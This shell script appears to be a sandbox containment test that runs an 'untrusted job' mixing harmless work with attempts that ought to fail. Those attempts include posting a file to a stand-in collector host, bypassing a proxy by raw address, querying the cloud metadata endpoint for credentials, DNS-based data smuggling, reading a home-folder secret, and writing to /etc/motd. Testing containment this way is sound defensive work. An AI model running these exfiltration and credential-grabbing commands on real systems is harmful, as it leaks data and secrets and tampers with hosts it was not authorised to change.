#!/bin/sh
# An untrusted job, as an agent or a customer might hand it in: some honest work, and a few things it should not do.
# $1 the server it may reach   $2 a secret in the home folder of whoever runs it

attempt() { # WHAT COMMAND...: runs it and says what came of it
	what=$1
	shift
	if answer=$("$@" 2>&1); then echo "  $what: got \"$answer\""; else echo "  $what: failed"; fi
}

echo "honest work"
attempt "sum of the squares to 1000" awk 'BEGIN { for (i = 1; i <= 1000; i++) sum += i * i; print sum }'
attempt "price from the allowed server" curl -fsS -m 5 "$1/price"
echo "42 widgets, counted inside the sandbox" > result.txt && echo "  wrote result.txt"

echo "and what it should not do"
attempt "send the result to a stranger" curl -fsS -m 5 -d @result.txt https://collector.example.net/
attempt "the same past the proxy, by address" curl -fsS -m 5 --noproxy '*' http://203.0.113.7/
attempt "ask the cloud for credentials" curl -fsS -m 5 --noproxy '*' http://169.254.169.254/latest/meta-data/
attempt "look up a name to smuggle data in" getent hosts c2VjcmV0.collector.example.net
attempt "read a secret in the home folder" cat "$2"
attempt "see other processes" sh -c 'test "$(ls -d /proc/[0-9]* | wc -l)" -gt 20 && ls /proc'
attempt "change the system" sh -c 'echo hacked > /etc/motd'
exit 0
